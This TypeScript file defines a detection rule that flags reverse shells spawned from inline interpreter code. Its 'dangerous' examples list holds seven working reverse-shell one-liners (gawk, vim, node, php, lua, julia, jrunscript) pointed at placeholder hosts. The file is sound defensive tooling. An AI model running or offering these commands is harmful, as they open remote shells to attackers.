import { STAGE } from "../advice.js";
import type { Rule } from "../../rule.js";
import { connectsProcess } from "../shared/network-code.js";

export const rule = {
  id: "INLINE-NET",
  family: "reverse-shell",
  severity: "error",
  why: "connects a shell or a process to the network from inline code",
  fix: STAGE,
  // Those of the interpreters are looked at with the rest of their code.
  commands: [
    ...["vim", "vi", "nvim", "view", "rview", "rvim", "vimdiff", "ex", "gimp", "easy_install"],
    ...["cpan", "gdb", "lldb", "emacs", "wish", "awk", "gawk", "mawk", "nawk", "blender", "jshell"],
    ...["jrunscript", "jjs", "groovy", "scala", "ghci", "runghc", "go", "sbcl", "guile", "racket"],
    ...["gcc", "cc", "g++", "clang", "clang++", "tcc", "rustc", "ocaml", "nim", "zig", "crystal"],
    ...["erl", "elixir", "iex", "pwsh", "qjs", "raku", "swift", "dotnet", "ksh", "zsh", "irb"],
  ],
  check: ({ name, args }, report, { input }) => {
    const isAwk = /awk$/.test(name);
    const texts = isAwk || input.upstream.length > 0 ? args : [...args, input.text ?? ""];
    if (isAwk ? texts.some(opensInAwk) : texts.some(connectsProcess))
      report(`${name} opens a connection`);
  },
  examples: {
    dangerous: [
      "gawk 'BEGIN { s = \"/inet/tcp/0/192.0.2.7/4444\"; while (1) { s |& getline c; print c } }'",
      'vim -c \':py3 import socket,pty; s=socket.create_connection(("h",1)); pty.spawn("sh")\'',
      'node -e \'const c=require("child_process").spawn("sh"); require("net").connect(9,"h",function(){this.pipe(c.stdin)})\'',
      'php -r \'$s=socket_create(AF_INET,SOCK_STREAM,0); socket_connect($s,"h",9); popen("sh","r");\'',
      'lua -e \'s=require("socket").tcp(); s:connect("h",9); io.popen("sh")\'',
      "julia -e 'using Sockets; s=connect(\"h\",9); run(pipeline(`sh`, stdin=s))'",
      'jrunscript -e \'var p=new java.lang.ProcessBuilder("sh").start(); var s=new java.net.Socket("h",9)\'',
    ],
    honest: [
      "awk '{ print $1 \"/inet\" }' hosts.txt",
      "vim -es -c ':%s/socket/port/' -c wq notes",
      "node -e 'console.log(require(\"os\").cpus().length)'",
      "php -r 'echo socket_strerror(1);'",
      "gdb -batch -ex 'break socket' ./solver",
    ],
  },
} as const satisfies Rule;

function opensInAwk(program: string): boolean {
  return /["/]inet[46]?["/]/.test(program) && /\btcp\b|\budp\b|\|&/.test(program);
}
